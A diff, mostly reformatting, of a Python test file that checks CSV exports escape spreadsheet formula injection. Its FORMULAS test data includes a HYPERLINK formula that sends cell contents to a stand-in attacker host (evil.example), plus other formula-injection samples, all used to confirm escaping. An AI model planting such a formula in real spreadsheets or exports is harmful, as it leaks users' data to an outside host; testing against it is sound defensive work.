@@ -1,6 +1,7 @@
 """Every CSV the app offers, fetched from a real server: complete, formula-escaped exactly as
 `sinkin export` escapes, numbers untouched, and the export of a filtered table page honours the
 filters."""
+
 import csv
 import io
 import sqlite3
@@ -17,15 +18,38 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A
 @pytest.fixture(scope="module")
 def server(tmp_path_factory):
     from conftest import queue_run, serve_in_thread
+
     from sinkin_pipeline.db import open_db
 
     path = tmp_path_factory.mktemp("csv") / "lab.db"
     open_db(path).conn.close()
-    queue_run(path, {"provider": "simulator", "model_id": "4zdwGOB", "prompt": FORMULAS[:2], "seed": [1, 2],
-                     "width": 128, "height": 128, "steps": 4, "name": "@SUM(A1)"})
-    queue_run(path, {"provider": "simulator", "model_id": "4zdwGOB", "prompt": FORMULAS[2:] + ["a cat"],
-                     "negative_prompt": ["=1+2"], "seed": [3], "width": 128, "height": 128, "steps": 4,
-                     "name": "second"})
+    queue_run(
+        path,
+        {
+            "provider": "simulator",
+            "model_id": "4zdwGOB",
+            "prompt": FORMULAS[:2],
+            "seed": [1, 2],
+            "width": 128,
+            "height": 128,
+            "steps": 4,
+            "name": "@SUM(A1)",
+        },
+    )
+    queue_run(
+        path,
+        {
+            "provider": "simulator",
+            "model_id": "4zdwGOB",
+            "prompt": FORMULAS[2:] + ["a cat"],
+            "negative_prompt": ["=1+2"],
+            "seed": [3],
+            "width": 128,
+            "height": 128,
+            "steps": 4,
+            "name": "second",
+        },
+    )
     work(path, concurrency=2)
     url, stop = serve_in_thread(path)
     with httpx.Client(base_url=url) as client:
@@ -56,7 +80,14 @@ def assert_safe(rows):
 
 def test_escaping_is_one_function():
     assert [escape_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
-    assert [escape_cell(v) for v in (-5, 2.5, "-5", "a=b", None, "\tx")] == [-5, 2.5, "'-5", "a=b", None, "'\tx"]
+    assert [escape_cell(v) for v in (-5, 2.5, "-5", "a=b", None, "\tx")] == [
+        -5,
+        2.5,
+        "'-5",
+        "a=b",
+        None,
+        "'\tx",
+    ]
     # in CSV text a number and a text that is a number look alike: the number is left alone
     assert [escape_text_cell(v) for v in ("-5", "+1.5e3", "-2+3", "=1")] == ["-5", "+1.5e3", "'-2+3", "'=1"]
     # the same rule in SQL (the sqlite3 shell of `sinkin export`, the web export route)
@@ -66,13 +97,17 @@ def test_escaping_is_one_function():
     values = FORMULAS + ["-5", "a=b", "\tx", "\rx", -5, 2.5, None, "ok"]
     conn.execute("create table t (v)")
     conn.executemany("insert into t values (?)", [[v] for v in values])
-    assert [r[0] for r in conn.execute("select {} from t order by rowid".format(escaped_sql("v")))] == \
-        [escape_cell(v) for v in values]
+    assert [r[0] for r in conn.execute("select {} from t order by rowid".format(escaped_sql("v")))] == [
+        escape_cell(v) for v in values
+    ]
     escaper = CsvReescaper()
-    text = 'a,b\r\n"=1,\n2",-3\r\n@x,"y ""q"""\r\n'.encode()
-    out = b"".join(escaper.feed(text[i:i + 3]) for i in range(0, len(text), 3)) + escaper.close()
+    text = b'a,b\r\n"=1,\n2",-3\r\n@x,"y ""q"""\r\n'
+    out = b"".join(escaper.feed(text[i : i + 3]) for i in range(0, len(text), 3)) + escaper.close()
     assert list(csv.reader(io.StringIO(out.decode(), newline=""))) == [
-        ["a", "b"], ["'=1,\n2", "-3"], ["'@x", 'y "q"']]
+        ["a", "b"],
+        ["'=1,\n2", "-3"],
+        ["'@x", 'y "q"'],
+    ]
 
 
 def test_datasette_csv_links_download_completely_and_formula_safe(server):
